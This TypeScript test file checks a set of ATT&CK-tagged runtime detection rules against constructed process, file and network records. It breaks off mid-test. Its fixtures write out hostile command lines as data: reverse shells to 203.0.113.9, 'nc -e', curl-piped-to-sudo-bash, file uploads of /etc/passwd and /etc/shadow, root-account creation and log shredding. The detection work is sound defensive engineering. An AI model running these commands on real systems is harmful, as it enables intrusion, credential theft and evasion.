/**
 * The shipped policies: policies/runtimeintegrity (MITRE ATT&CK-tagged detections) and
 * policies/distribution/filter.yaml (noise filters + telemetry rules).
 *
 * - Every runtimeintegrity rule loads as "supported" and follows the tag convention.
 * - Every runtimeintegrity rule fires on a constructed record that shows the behaviour, and stays
 *   quiet on a near miss (an exclusion, an exception, or a similar but harmless record). The table
 *   must cover every rule of the directory.
 * - The distribution filter drops noise and its telemetry rules tag what remains.
 * - runtimeintegrity runs in alert mode over real traces; the alert counts asserted here were
 *   checked against the traces' content (sysprint) by hand.
 */
import { test, describe, before } from 'node:test';
import assert from 'node:assert/strict';
import { join } from 'node:path';
import type { FlatRecord } from '../../core/flatten/flatrecord.js';
import { loadPolicySet, type PolicySet } from '../../core/policy/policyset.js';
import { pe, ff, nf, fe, initHashing, OpFlags, OpenFlags, type ProcSpec } from '../helpers/records.js';
import { ROOT, HAVE_SHARED, CORPUS_NOTE, tracePath } from '../helpers/corpus.js';
import { runPipeline } from '../helpers/run-pipeline.js';

const RI_DIR = join(ROOT, 'policies', 'runtimeintegrity');
const DIST_FILE = join(ROOT, 'policies', 'distribution', 'filter.yaml');

// ---- record shorthands ------------------------------------------------------------------------

const CTR = { id: 'c0ffee123456', name: 'app', image: 'registry.example.com/shop/app:1.4' };
const PRIV_CTR = { ...CTR, privileged: true };

const O = OpFlags;
const OF = OpenFlags;

/** An ancestry with a web server: parent `parent`, grandparent apache2, then init. */
const belowApache = (parent: ProcSpec = { pid: 60, exe: '/bin/sh', args: '-c x' }) => ({
  parent,
  ancestors: [
    { pid: 40, exe: '/usr/sbin/apache2', args: '-k start' },
    { pid: 1, exe: '/sbin/init' },
  ],
});

/** A file flow that opened `path` for writing and wrote to it. */
const write = (path: string, extra: Parameters<typeof ff>[0] = {}) =>
  ff({ path, openFlags: OF.WRONLY | OF.CREAT, flags: O.OPEN | O.WRITE_SEND | O.CLOSE, wbytes: 120, rbytes: 0, rops: 0, wops: 1, ...extra });

/** A file flow that opened `path` for reading and read it. */
const read = (path: string, extra: Parameters<typeof ff>[0] = {}) => ff({ path, openFlags: OF.RDONLY, ...extra });

/** A file flow that opened `path` with O_TRUNC and wrote nothing (the file was emptied). */
const emptied = (path: string, extra: Parameters<typeof ff>[0] = {}) =>
  ff({ path, openFlags: OF.WRONLY | OF.CREAT | OF.TRUNC, flags: O.OPEN | O.CLOSE, wbytes: 0, rbytes: 0, rops: 0, wops: 0, ...extra });

// ---- evaluation ---------------------------------------------------------------------------------

function matched(set: PolicySet, r: FlatRecord): string[] {
  set.evaluate(r);
  return (r.rules ?? []).map((m) => m.name);
}

interface Case {
  rule: string;
  hit: () => FlatRecord;
  miss: () => FlatRecord;
  /** What the near miss shows. */
  why: string;
}

const CASES: Case[] = [
  // execution
  {
    rule: 'Shell spawned by web server',
    hit: () => pe({ exe: '/bin/bash', args: '-c cat /etc/passwd', ...belowApache({ pid: 60, exe: '/usr/lib/cgi-bin/vulnerable' }) }),
    miss: () => pe({ exe: '/bin/bash', args: '-c cat /etc/passwd', parent: { pid: 60, exe: '/usr/sbin/sshd' } }),
    why: 'a shell below sshd',
  },
  {
    rule: 'Shell spawned by application runtime in container',
    hit: () => pe({ exe: '/bin/sh', args: '-c cat /etc/hosts', parent: { pid: 50, exe: '/usr/local/bin/node', args: 'app.js' }, container: CTR }),
    miss: () => pe({ exe: '/bin/sh', args: '-c npm run build', parent: { pid: 50, exe: '/usr/local/bin/node', args: 'app.js' }, container: CTR }),
    why: 'exception known_runtime_commands (node running npm)',
  },
  {
    rule: 'Terminal shell in container',
    hit: () => pe({ exe: '/bin/bash', tty: true, parent: { pid: 50, exe: '/usr/bin/runc' }, container: CTR }),
    miss: () => pe({ exe: '/bin/bash', tty: true, parent: { pid: 50, exe: '/bin/bash', tty: true }, container: CTR }),
    why: 'a subshell of a shell',
  },
  {
    rule: 'Inline interpreter code spawned by web server',
    hit: () => pe({ exe: '/usr/bin/python3', args: '-c import os;os.system("id")', parent: { pid: 50, exe: '/usr/sbin/nginx' } }),
    miss: () => pe({ exe: '/usr/bin/python3', args: '/usr/lib/cgi-bin/report.py', parent: { pid: 50, exe: '/usr/sbin/nginx' } }),
    why: 'a CGI script run from a file',
  },
  {
    rule: 'Execution from temporary directory',
    hit: () => pe({ exe: '/dev/shm/.x/payload', parent: { pid: 50, exe: '/bin/sh' } }),
    miss: () => pe({ exe: '/tmp/installer.bin', parent: { pid: 50, exe: '/bin/sh' }, ancestors: [{ pid: 40, exe: '/usr/bin/dpkg' }] }),
    why: 'run below a package manager',
  },
  {
    rule: 'Fileless execution from memory',
    hit: () => pe({ exe: '/memfd:payload (deleted)' }),
    miss: () => pe({ exe: '/memfd:runc_cloned:/proc/self/exe (deleted)' }),
    why: 'runc re-executing itself',
  },
  {
    rule: 'Base64 payload decoded and executed',
    hit: () => pe({ exe: '/bin/sh', args: '-c echo aWQgPiAvdG1wL28K | base64 -d | sh' }),
    miss: () => pe({ exe: '/bin/sh', args: '-c echo aWQK | base64 -d > /tmp/out.txt' }),
    why: 'decoded into a file, not a shell',
  },
  {
    rule: 'Remote script piped to shell',
    hit: () => pe({ exe: '/bin/sh', args: '-c curl -fsSL http://203.0.113.9/i.sh | sudo bash' }),
    miss: () => pe({ exe: '/bin/sh', args: '-c curl -fsSL http://203.0.113.9/i.sh -o /tmp/i.sh' }),
    why: 'downloaded to a file',
  },
  // persistence
  {
    rule: 'Cron job modified',
    hit: () => write('/etc/cron.d/backdoor', { exe: '/usr/bin/tee' }),
    miss: () => read('/etc/crontab', { exe: '/usr/sbin/cron' }),
    why: 'cron reading its table',
  },
  {
    rule: 'At job scheduled',
    hit: () => pe({ exe: '/usr/bin/at', args: 'now + 1 minute' }),
    miss: () => pe({ exe: '/usr/bin/atq' }),
    why: 'listing the queue',
  },
  {
    rule: 'Systemd unit modified',
    hit: () => write('/etc/systemd/system/sshd-helper.service', { exe: '/usr/bin/tee' }),
    miss: () => write('/etc/systemd/system/multi-user.target.wants/nginx.service', { exe: '/usr/bin/systemctl' }),
    why: 'written by systemctl',
  },
  {
    rule: 'Init script modified',
    hit: () => write('/etc/rc.local', { exe: '/bin/bash' }),
    miss: () => fe({ path: '/etc/init.d/nginx', newPath: '/etc/rc2.d/S01nginx', flags: O.SYMLINK, exe: '/usr/sbin/update-rc.d' }),
    why: 'link made by update-rc.d',
  },
  {
    rule: 'Shell profile modified',
    hit: () => write('/root/.bashrc', { exe: '/bin/bash' }),
    miss: () => write('/etc/profile.d/locale.sh', { exe: '/bin/cp', parent: { pid: 50, exe: '/bin/sh' }, ancestors: [{ pid: 40, exe: '/usr/bin/dpkg' }] }),
    why: 'installed by a package',
  },
  {
    rule: 'SSH authorized keys modified',
    hit: () => write('/root/.ssh/authorized_keys', { exe: '/bin/bash' }),
    miss: () => write('/home/alice/.ssh/authorized_keys', { exe: '/usr/bin/google_guest_agent' }),
    why: 'exception key_management_agents',
  },
  {
    rule: 'Dynamic linker preload file modified',
    hit: () => write('/etc/ld.so.preload', { exe: '/bin/bash' }),
    miss: () => read('/etc/ld.so.preload', { exe: '/bin/ls' }),
    why: 'only read (by the loader)',
  },
  {
    rule: 'Kernel module tool executed',
    hit: () => pe({ exe: '/sbin/insmod', args: '/tmp/diamorphine.ko' }),
    miss: () => pe({ exe: '/sbin/modprobe', args: 'snd-hda-intel', parent: { pid: 50, exe: '/lib/systemd/systemd-udevd' } }),
    why: 'udev loading a driver',
  },
  {
    rule: 'User or group management tool executed',
    hit: () => pe({ exe: '/usr/sbin/useradd', args: '-o -u 0 -g 0 -M toor' }),
    miss: () => pe({ exe: '/usr/sbin/useradd', args: '--system _apt', parent: { pid: 50, exe: '/bin/sh' }, ancestors: [{ pid: 40, exe: '/usr/bin/dpkg' }] }),
    why: 'a package maintainer script',
  },
  {
    rule: 'Account database modified by unexpected process',
    hit: () => write('/etc/passwd', { exe: '/bin/bash', args: '-c echo toor:x:0:0::/root:/bin/bash >> /etc/passwd' }),
    miss: () => fe({ path: '/etc/passwd+', newPath: '/etc/passwd', flags: O.RENAME, exe: '/usr/sbin/useradd' }),
    why: 'useradd replacing the file',
  },
  {
    rule: 'Script file written by web server',
    hit: () => write('/var/www/html/uploads/shell.php', { exe: '/usr/sbin/apache2' }),
    miss: () => write('/var/log/apache2/access.log', { exe: '/usr/sbin/apache2' }),
    why: 'the web server writing its log',
  },
  // privilege escalation
  {
    rule: 'Privilege change to root with sudo or su',
    hit: () => pe({ exe: '/usr/bin/sudo', args: 'id', flags: O.SETUID, uid: 0, parent: { pid: 50, exe: '/bin/bash', uid: 1000, user: 'alice' } }),
    miss: () => pe({ exe: '/usr/bin/sudo', args: 'id', flags: O.SETUID, uid: 0, parent: { pid: 50, exe: '/bin/bash', uid: 0 } }),
    why: 'parent already root',
  },
  {
    rule: 'Unexpected setuid to root',
    hit: () => pe({ exe: '/tmp/cve-2021-4034', flags: O.SETUID, uid: 0, parent: { pid: 50, exe: '/bin/bash', uid: 1000, user: 'alice' } }),
    miss: () => pe({ exe: '/usr/bin/passwd', flags: O.SETUID, uid: 0, parent: { pid: 50, exe: '/bin/bash', uid: 1000, user: 'alice' } }),
    why: 'a known set-uid program',
  },
  {
    rule: 'Set-uid or set-gid bit set with chmod',
    hit: () => pe({ exe: '/bin/chmod', args: 'u+s /tmp/.bash' }),
    miss: () => pe({ exe: '/bin/chmod', args: '0755 /usr/local/bin/tool' }),
    why: 'an ordinary mode',
  },
  {
    rule: 'Sudoers configuration modified',
    hit: () => write('/etc/sudoers.d/99-nopasswd', { exe: '/bin/bash' }),
    miss: () => read('/etc/sudoers', { exe: '/usr/bin/sudo' }),
    why: 'sudo reading it',
  },
  {
    rule: 'Namespace changed by unexpected process',
    hit: () => pe({ exe: '/tmp/escape', flags: O.SETNS }),
    miss: () => pe({ exe: '/usr/bin/runc', args: 'init', flags: O.SETNS }),
    why: 'the container runtime',
  },
  {
    rule: 'nsenter executed',
    hit: () => pe({ exe: '/usr/bin/nsenter', args: '-t 1 -m -u -n -i sh' }),
    miss: () => pe({ exe: '/usr/bin/unshare', args: '-r id' }),
    why: 'unshare is not nsenter',
  },
  {
    rule: 'Cgroup release_agent modified',
    hit: () => write('/tmp/cgrp/release_agent', { exe: '/bin/sh', container: PRIV_CTR }),
    miss: () => read('/sys/fs/cgroup/memory/release_agent', { exe: '/bin/cat', container: PRIV_CTR }),
    why: 'only read',
  },
  {
    rule: 'Kernel tunable written from container',
    hit: () => write('/proc/sys/kernel/core_pattern', { exe: '/bin/sh', container: PRIV_CTR }),
    miss: () => write('/proc/sys/net/ipv4/ip_forward', { exe: '/usr/lib/systemd/systemd-sysctl' }),
    why: 'on the host, not in a container',
  },
  {
    rule: 'Mount or disk tool executed in container',
    hit: () => pe({ exe: '/bin/mount', args: '/dev/sda1 /mnt', container: PRIV_CTR }),
    miss: () => pe({ exe: '/bin/mount', args: '/dev/sdb1 /data' }),
    why: 'on the host',
  },
  {
    rule: 'Interactive shell in privileged container',
    hit: () => pe({ exe: '/bin/bash', tty: true, parent: { pid: 50, exe: '/usr/bin/runc' }, container: PRIV_CTR }),
    miss: () => pe({ exe: '/bin/bash', args: '/entrypoint.sh', tty: false, parent: { pid: 50, exe: '/usr/bin/runc' }, container: PRIV_CTR }),
    why: 'no terminal (an entry point script)',
  },
  {
    rule: 'Container runtime socket accessed from container',
    hit: () => ff({ path: '/var/run/docker.sock', restype: 'u', flags: O.CONNECT | O.WRITE_SEND | O.READ_RECV | O.CLOSE, openFlags: 0, exe: '/usr/bin/curl', container: CTR }),
    miss: () => ff({ path: '/var/run/docker.sock', restype: 'u', flags: O.CONNECT | O.WRITE_SEND | O.READ_RECV | O.CLOSE, openFlags: 0, exe: '/usr/bin/docker' }),
    why: 'the docker CLI on the host',
  },
  // credential access
  {
    rule: 'Shadow file read by untrusted program',
    hit: () => read('/etc/shadow', { exe: '/bin/cat' }),
    miss: () => read('/etc/shadow', { exe: '/usr/sbin/sshd' }),
    why: 'sshd authenticating',
  },
  {
    rule: 'SSH private key read by unexpected program',
    hit: () => read('/home/alice/.ssh/id_ed25519', { exe: '/usr/bin/python3' }),
    miss: () => read('/home/alice/.ssh/id_ed25519.pub', { exe: '/usr/bin/python3' }),
    why: 'a public key',
  },
  {
    rule: 'Cloud or registry credentials read',
    hit: () => read('/root/.aws/credentials', { exe: '/bin/cat' }),
    miss: () => read('/root/.aws/credentials', { exe: '/usr/local/bin/aws' }),
    why: 'exception credential_owners (the AWS CLI)',
  },
  {
    rule: 'Search for private keys or passwords',
    hit: () => pe({ exe: '/usr/bin/find', args: '/ -name id_rsa' }),
    miss: () => pe({ exe: '/usr/bin/find', args: '/var/log -name *.log -mtime +7' }),
    why: 'an ordinary search',
  },
  {
    rule: 'Credential dumping tool executed',
    hit: () => pe({ exe: '/usr/sbin/unshadow', args: '/etc/passwd /etc/shadow' }),
    miss: () => pe({ exe: '/bin/gzip', args: '-9 /tmp/report.txt' }),
    why: 'an unrelated tool',
  },
  {
    rule: 'Process memory read through proc filesystem',
    hit: () => read('/proc/812/mem', { exe: '/usr/bin/python3' }),
    miss: () => read('/proc/self/mem', { exe: '/usr/bin/python3' }),
    why: 'its own memory',
  },
  {
    rule: 'Service account token read by shell or tool',
    hit: () => read('/var/run/secrets/kubernetes.io/serviceaccount/..2024_05_01_10_00_00.1/token', { exe: '/bin/cat', container: CTR }),
    miss: () => read('/var/run/secrets/kubernetes.io/serviceaccount/..2024_05_01_10_00_00.1/token', { exe: '/app/server', container: CTR }),
    why: 'the application itself',
  },
  {
    rule: 'Link created to sensitive file',
    hit: () => fe({ path: '/etc/shadow', newPath: '/tmp/s', flags: O.SYMLINK, exe: '/bin/ln' }),
    miss: () => fe({ path: '/etc/hostname', newPath: '/tmp/h', flags: O.SYMLINK, exe: '/bin/ln' }),
    why: 'a harmless target',
  },
  {
    rule: 'Cloud metadata service contacted from container',
    hit: () => nf({ dip: '169.254.169.254', dport: 80, sip: '172.17.0.5', exe: '/usr/bin/curl', container: CTR }),
    miss: () => nf({ dip: '169.254.169.254', dport: 80, sip: '10.0.0.4', exe: '/usr/bin/curl' }),
    why: 'on the host',
  },
  // defense evasion
  {
    rule: 'Shell history tampered with',
    hit: () => emptied('/root/.bash_history', { exe: '/bin/bash' }),
    miss: () => ff({ path: '/root/.bash_history', exe: '/bin/bash', openFlags: OF.WRONLY | OF.TRUNC, flags: O.OPEN | O.WRITE_SEND | O.CLOSE, wbytes: 2048, wops: 3 }),
    why: 'bash saving its history (truncate and rewrite)',
  },
  {
    rule: 'Shell started with history disabled',
    hit: () => pe({ exe: '/bin/bash', env: ['PATH=/usr/bin:/bin', 'HISTFILE=/dev/null'] }),
    miss: () => pe({ exe: '/bin/bash', env: ['PATH=/usr/bin:/bin', 'HISTFILE=/root/.bash_history', 'HISTSIZE=1000'] }),
    why: 'ordinary history settings',
  },
  {
    rule: 'Log file cleared or deleted',
    hit: () => emptied('/var/log/auth.log', { exe: '/bin/bash' }),
    miss: () => emptied('/var/log/auth.log', { exe: '/usr/sbin/logrotate' }),
    why: 'logrotate (copytruncate)',
  },
  {
    rule: 'Firewall rules flushed or disabled',
    hit: () => pe({ exe: '/sbin/iptables', args: '-F' }),
    miss: () => pe({ exe: '/sbin/iptables', args: '-t nat -F DOCKER', parent: { pid: 50, exe: '/usr/bin/dockerd' } }),
    why: 'dockerd managing its chains',
  },
  {
    rule: 'Security tool or audit disabled',
    hit: () => pe({ exe: '/usr/sbin/setenforce', args: '0' }),
    miss: () => pe({ exe: '/usr/sbin/setenforce', args: '1' }),
    why: 'enforcing switched on',
  },
  {
    rule: 'File timestamps changed',
    hit: () => pe({ exe: '/usr/bin/touch', args: '-r /bin/ls /usr/bin/.backdoor' }),
    miss: () => pe({ exe: '/usr/bin/touch', args: '/tmp/newfile' }),
    why: 'a plain touch',
  },
  {
    rule: 'Hidden file created in system directory',
    hit: () => fe({ path: '/tmp/.ICE-unix-x', flags: O.MKDIR, exe: '/bin/mkdir' }),
    miss: () => fe({ path: '/tmp/.X11-unix', flags: O.MKDIR, exe: '/usr/lib/xorg/Xorg' }),
    why: 'a known hidden name',
  },
  {
    rule: 'Write below binary or library directory',
    hit: () => write('/usr/bin/ls', { exe: '/bin/cp' }),
    miss: () => fe({ path: 'libssl.so.3.0', newPath: '/usr/lib/x86_64-linux-gnu/libssl.so.3', flags: O.SYMLINK, exe: '/sbin/ldconfig' }),
    why: 'exception link_maintenance (ldconfig link)',
  },
  {
    rule: 'Library preloaded from writable location',
    hit: () => pe({ exe: '/usr/bin/ssh', env: ['LD_PRELOAD=/tmp/.hook.so', 'HOME=/root'] }),
    miss: () => pe({ exe: '/usr/bin/ssh', env: ['LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2', 'HOME=/root'] }),
    why: 'a system library',
  },
  // discovery
  {
    rule: 'Network scanning tool executed',
    hit: () => pe({ exe: '/usr/bin/nmap', args: '-sS 10.0.0.0/24' }),
    miss: () => pe({ exe: '/bin/ping', args: '-c 1 10.0.0.1' }),
    why: 'ping',
  },
  {
    rule: 'Packet capture tool executed',
    hit: () => pe({ exe: '/usr/sbin/tcpdump', args: '-i any -w /tmp/c.pcap' }),
    miss: () => pe({ exe: '/usr/bin/ss', args: '-tlnp' }),
    why: 'ss',
  },
  {
    rule: 'Discovery command spawned by web server',
    hit: () => pe({ exe: '/usr/bin/id', ...belowApache() }),
    miss: () => pe({ exe: '/usr/bin/id' }),
    why: 'id in an ordinary shell',
  },
  {
    rule: 'Account discovery below web server',
    hit: () => read('/etc/passwd', { exe: '/bin/cat', args: '/etc/passwd', ...belowApache() }),
    miss: () => read('/etc/passwd', { exe: '/usr/sbin/apache2', parent: { pid: 40, exe: '/usr/sbin/apache2' } }),
    why: 'the web server resolving its user',
  },
  {
    rule: 'Container management tool executed in container',
    hit: () => pe({ exe: '/usr/local/bin/kubectl', args: 'get secrets -A', container: CTR }),
    miss: () => pe({ exe: '/usr/local/bin/kubectl', args: 'get pods' }),
    why: 'on the host',
  },
  // lateral movement
  {
    rule: 'Remote copy or login tool executed in container',
    hit: () => pe({ exe: '/usr/bin/scp', args: '/data/db.tar root@10.0.0.5:/tmp', container: CTR }),
    miss: () => pe({ exe: '/usr/bin/rsync', args: '-a /src/ /dst/', container: CTR }),
    why: 'a local rsync',
  },
  {
    rule: 'Outbound SSH connection by non-SSH program',
    hit: () => nf({ dport: 22, dip: '10.0.0.7', exe: '/usr/bin/python3', args: 'spray.py' }),
    miss: () => nf({ dport: 22, dip: '10.0.0.7', exe: '/usr/bin/ssh', args: 'admin@10.0.0.7' }),
    why: 'the ssh client',
  },
  {
    rule: 'Legacy remote shell tool executed',
    hit: () => pe({ exe: '/usr/bin/telnet', args: '10.0.0.5 23' }),
    miss: () => pe({ exe: '/usr/bin/ssh', args: '10.0.0.5' }),
    why: 'ssh',
  },
  // collection and exfiltration
  {
    rule: 'File upload with curl or wget',
    hit: () => pe({ exe: '/usr/bin/curl', args: '-F file=@/etc/passwd https://203.0.113.9/up' }),
    miss: () => pe({ exe: '/usr/bin/curl', args: '-fsSL -d {"q":1} https://api.example.com/v1' }),
    why: 'inline request data',
  },
  {
    rule: 'Cloud storage transfer tool executed',
    hit: () => pe({ exe: '/usr/local/bin/aws', args: 's3 cp /var/backups/db.sql s3://drop-bucket/' }),
    miss: () => pe({ exe: '/usr/local/bin/aws', args: 's3 ls' }),
    why: 'listing',
  },
  {
    rule: 'Sensitive files archived',
    hit: () => pe({ exe: '/bin/tar', args: 'czf /tmp/k.tgz /root/.ssh /etc/shadow' }),
    miss: () => pe({ exe: '/bin/tar', args: 'czf /tmp/www.tgz /var/www' }),
    why: 'web content',
  },
  {
    rule: 'Large upload by shell or interpreter',
    hit: () => nf({ exe: '/usr/bin/python3', dip: '203.0.113.9', dport: 443, wbytes: 50_000_000 }),
    miss: () => nf({ exe: '/usr/bin/python3', dip: '203.0.113.9', dport: 443, wbytes: 5_000 }),
    why: 'a small request',
  },
  // command and control
  {
    rule: 'Shell with network connection',
    hit: () => nf({ exe: '/bin/bash', args: '-i', dip: '203.0.113.9', dport: 4444 }),
    miss: () => nf({ exe: '/bin/bash', sip: '127.0.0.1', dip: '127.0.0.1', dport: 8080 }),
    why: 'loopback',
  },
  {
    rule: 'Netcat remote code execution',
    hit: () => pe({ exe: '/bin/nc', args: '-e /bin/sh 203.0.113.9 4444' }),
    miss: () => pe({ exe: '/bin/nc', args: '-zv 10.0.0.5 22' }),
    why: 'a port check',
  },
  {
    rule: 'Reverse shell command line',
    hit: () => pe({ exe: '/bin/bash', args: '-c bash -i >& /dev/tcp/203.0.113.9/4444 0>&1' }),
    miss: () => pe({ exe: '/bin/bash', args: '-c echo ok > /dev/null' }),
    why: 'an ordinary redirection',
  },
  {
    rule: 'Interpreter reverse shell one-liner',
    hit: () =>
      pe({
        exe: '/usr/bin/python3',
        args: "-c import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(('203.0.113.9',4444));os.dup2(s.fileno(),0);subprocess.call(['/bin/sh','-i'])",
      }),
    miss: () => pe({ exe: '/usr/bin/python3', args: '-c import socket; print(socket.gethostname())' }),
    why: 'a socket but no shell',
  },
  {
    rule: 'Network tool executed in container',
    hit: () => pe({ exe: '/usr/bin/socat', args: 'TCP-LISTEN:9000 STDOUT', container: CTR }),
    miss: () => pe({ exe: '/usr/bin/socat', args: 'TCP-LISTEN:9000 STDOUT' }),
    why: 'on the host',
  },
  {
    rule: 'Tunneling tool executed',
    hit: () => pe({ exe: '/usr/local/bin/chisel', args: 'client 203.0.113.9:8000 R:socks' }),
    miss: () => pe({ exe: '/usr/bin/ssh', args: '-L 8080:localhost:80 admin@10.0.0.5' }),
    why: 'an ssh local forward',
  },
  {
    rule: 'Package manager executed in container',
    hit: () => pe({ exe: '/usr/bin/apt-get', args: 'install -y nmap', container: CTR }),
    miss: () => pe({ exe: '/usr/bin/dpkg', args: '--print-foreign-architectures', parent: { pid: 50, exe: '/usr/bin/apt-get', args: 'update' }, container: CTR }),
    why: 'a child of the package manager',
  },
  // impact
  {
    rule: 'Crypto miner executed',
    hit: () => pe({ exe: '/usr/local/bin/xmrig', args: '-o pool.example.net:3333' }),
    miss: () => pe({ exe: '/usr/bin/top' }),
    why: 'top',
  },
  {
    rule: 'Connection to mining pool port',
    hit: () => nf({ dip: '203.0.113.9', dport: 3333, exe: '/tmp/kworker' }),
    miss: () => nf({ dip: '203.0.113.9', dport: 443, exe: '/tmp/kworker' }),
    why: 'HTTPS',
  },
  {
    rule: 'Data destruction tool executed',
    hit: () => pe({ exe: '/usr/bin/shred', args: '-u -z /var/log/auth.log' }),
    miss: () => pe({ exe: '/bin/rm', args: '-f /tmp/x' }),
    why: 'an ordinary rm',
  },
  {
    rule: 'System shutdown or reboot from container',
    hit: () => pe({ exe: '/sbin/reboot', container: CTR }),
    miss: () => pe({ exe: '/sbin/reboot' }),
    why: 'on the host',
  },
];

// ---- runtimeintegrity ---------------------------------------------------------------------------

let ri: PolicySet;
before(async () => {
  await initHashing();
  ri = loadPolicySet(RI_DIR);
});

describe('policies/runtimeintegrity: loading and conventions', () => {
  test('the directory loads with every rule supported (at least 40 rules)', () => {
    const s = ri.summary();
    assert.ok(ri.rules.length >= 40, `${ri.rules.length} rules`);
    const bad = ri.report.filter((r) => r.status !== 'supported').map((r) => `${r.name}: ${r.status} ${r.notes.join('; ')}`);
    assert.deepEqual(bad, []);
    assert.equal(s.supported, ri.rules.length);
    assert.deepEqual(ri.warnings, []);
  });

  test('tags: MITRE tactics (mitre_<tactic>) then technique ids, at least one of each', () => {
    const TACTICS = new Set([
      'execution',
      'persistence',
      'privilege_escalation',
      'defense_evasion',
      'credential_access',
      'discovery',
      'lateral_movement',
      'collection',
      'command_and_control',
      'exfiltration',
      'impact',
    ]);
    for (const r of ri.rules) {
      const tactics = r.tags.filter((t) => t.startsWith('mitre_'));
      const techniques = r.tags.filter((t) => /^T\d{4}(\.\d{3})?$/.test(t));
      assert.ok(tactics.length >= 1 && techniques.length >= 1, `${r.name}: ${r.tags.join(',')}`);
      assert.equal(tactics.length + techniques.length, r.tags.length, `${r.name}: unexpected tag in ${r.tags.join(',')}`);
      for (const t of tactics) assert.ok(TACTICS.has(t.slice('mitre_'.length)), `${r.name}: unknown tactic ${t}`);
      assert.deepEqual(r.tags.slice(0, tactics.length), tactics, `${r.name}: tactics come first`);
    }
  });

  test('every rule has a description, an output and a priority', () => {
    for (const r of ri.rules) {
      assert.ok(r.desc.length > 20, `${r.name}: desc`);
      assert.ok(r.output !== null, `${r.name}: output`);
      assert.ok(r.priority >= 1, `${r.name}: priority`);
    }
  });

  test('the case table covers every rule exactly once', () => {
    const names = CASES.map((c) => c.rule);
    assert.equal(new Set(names).size, names.length, 'duplicate case');
    assert.deepEqual([...names].sort(), ri.rules.map((r) => r.name).sort());
  });
});

describe('policies/runtimeintegrity: each rule on a constructed record and a near miss', () => {
  for (const c of CASES) {
    test(c.rule, () => {
      const hit = c.hit();
      const got = matched(ri, hit);
      assert.ok(got.includes(c.rule), `hit: expected '${c.rule}', matched [${got.join(', ')}]`);
      const m = hit.rules!.find((x) => x.name === c.rule)!;
      assert.ok(m.output && !m.output.includes('%'), `output rendered: ${m.output}`);
      const miss = matched(ri, c.miss());
      assert.ok(!miss.includes(c.rule), `near miss (${c.why}) matched [${miss.join(', ')}]`);
    });
  }
});

describe('policies/runtimeintegrity: more variants', () => {
  const fires = (rule: string, r: FlatRecord) => matched(ri, r).includes(rule);

  test('set-uid modes: symbolic and octal forms', () => {
    const chmod = (args: string) => fires('Set-uid or set-gid bit set with chmod', pe({ exe: '/bin/chmod', args }));
    for (const a of ['4755 /tmp/x', '+s /tmp/x', 'g+s /srv/shared', '-R 2775 /srv', 'a=rwxs /tmp/x', '04755 /tmp/x']) assert.ok(chmod(a), a);
    for (const a of ['755 /tmp/x', '+x /tmp/script.sh', '1777 /tmp', 'u+rwx files', 'go-w /etc/hosts']) assert.ok(!chmod(a), a);
  });

  test('execution from a temporary directory through a relative path and cwd', () => {
    assert.ok(fires('Execution from temporary directory', pe({ exe: './run', cwd: '/dev/shm' })));
    assert.ok(!fires('Execution from temporary directory', pe({ exe: './run', cwd: '/home/alice' })));
  });

  test('an application launched with `npm start` stays monitored; `npm install` is package management', () => {
    const npmStart = { pid: 30, exe: '/usr/local/bin/node', args: '/usr/local/bin/npm start' };
    const npmCi = { pid: 30, exe: '/usr/local/bin/node', args: '/usr/local/lib/node_modules/npm/bin/npm-cli.js ci' };
    const fromTmp = (anc: ProcSpec) => pe({ exe: '/tmp/x', parent: { pid: 50, exe: '/bin/sh' }, ancestors: [anc, { pid: 1, exe: '/sbin/init' }], container: CTR });
    assert.ok(fires('Execution from temporary directory', fromTmp(npmStart)));
    assert.ok(!fires('Execution from temporary directory', fromTmp(npmCi)));
    // pip run by its interpreter writing into site-packages
    const pip = write('/usr/local/lib/python3.11/site-packages/requests/api.py', { exe: '/usr/bin/python3.11', args: '/usr/bin/pip install requests' });
    assert.ok(!fires('Write below binary or library directory', pip));
    // …and reported as a package install in a container
    assert.ok(fires('Package manager executed in container', pe({ exe: '/usr/bin/python3', args: '-m pip install requests', container: CTR })));
  });

  test('history tampering: unlink, and a symlink to /dev/null', () => {
    assert.ok(fires('Shell history tampered with', fe({ path: '/home/alice/.bash_history', flags: O.UNLINK, exe: '/bin/rm' })));
    assert.ok(fires('Shell history tampered with', fe({ path: '/dev/null', newPath: '/root/.bash_history', flags: O.SYMLINK, exe: '/bin/ln' })));
    assert.ok(!fires('Shell history tampered with', fe({ path: '/root/notes.txt', flags: O.UNLINK, exe: '/bin/rm' })));
  });

  test('renames into watched places count as modifications', () => {
    assert.ok(fires('Cron job modified', fe({ path: '/tmp/x', newPath: '/var/spool/cron/crontabs/root', flags: O.RENAME, exe: '/bin/mv' })));
    assert.ok(fires('Write below binary or library directory', fe({ path: '/tmp/ps', newPath: '/bin/ps', flags: O.RENAME, exe: '/bin/mv' })));
    // ldconfig's exception covers links, not file contents
    assert.ok(fires('Write below binary or library directory', write('/usr/lib/libevil.so', { exe: '/sbin/ldconfig' })));
  });

  test('ordinary housekeeping stays quiet', () => {
    assert.ok(!fires('Cron job modified', write('/var/spool/anacron/cron.daily', { exe: '/usr/sbin/anacron' })));
    assert.ok(!fires('Hidden file created in system directory', write('/tmp/.notes.txt.swp', { exe: '/usr/bin/vim', openFlags: OF.RDWR | OF.CREAT | OF.EXCL })));
    assert.ok(fires('Hidden file created in system directory', write('/usr/bin/.sshd', { exe: '/bin/cp', openFlags: OF.WRONLY | OF.CREAT })));
    assert.ok(!fires('Unexpected setuid to root', pe({ exe: '/sbin/mount.nfs', flags: O.SETUID, uid: 0, parent: { pid: 50, exe: '/bin/mount', uid: 1000 } })));
  });

  test('privileged containers get the privileged-shell rule, not the ordinary one', () => {
    const got = matched(ri, pe({ exe: '/bin/bash', tty: true, parent: { pid: 50, exe: '/usr/bin/runc' }, container: PRIV_CTR }));
    assert.ok(got.includes('Interactive shell in privileged container'));
    assert.ok(!got.includes('Terminal shell in container'));
  });

  test('interpreter base64 payloads and other upload forms', () => {
    assert.ok(fires('Base64 payload decoded and executed', pe({ exe: '/usr/bin/python3', args: "-c import base64;exec(base64.b64decode('aW1wb3J0IG9z'))" })));
    assert.ok(fires('File upload with curl or wget', pe({ exe: '/usr/bin/wget', args: '--post-file=/etc/shadow http://203.0.113.9/' })));
    assert.ok(fires('File upload with curl or wget', pe({ exe: '/usr/bin/curl', args: '-T /var/backups/db.sql ftp://203.0.113.9/' })));
    assert.ok(fires('Security tool or audit disabled', pe({ exe: '/bin/systemctl', args: 'stop auditd' })));
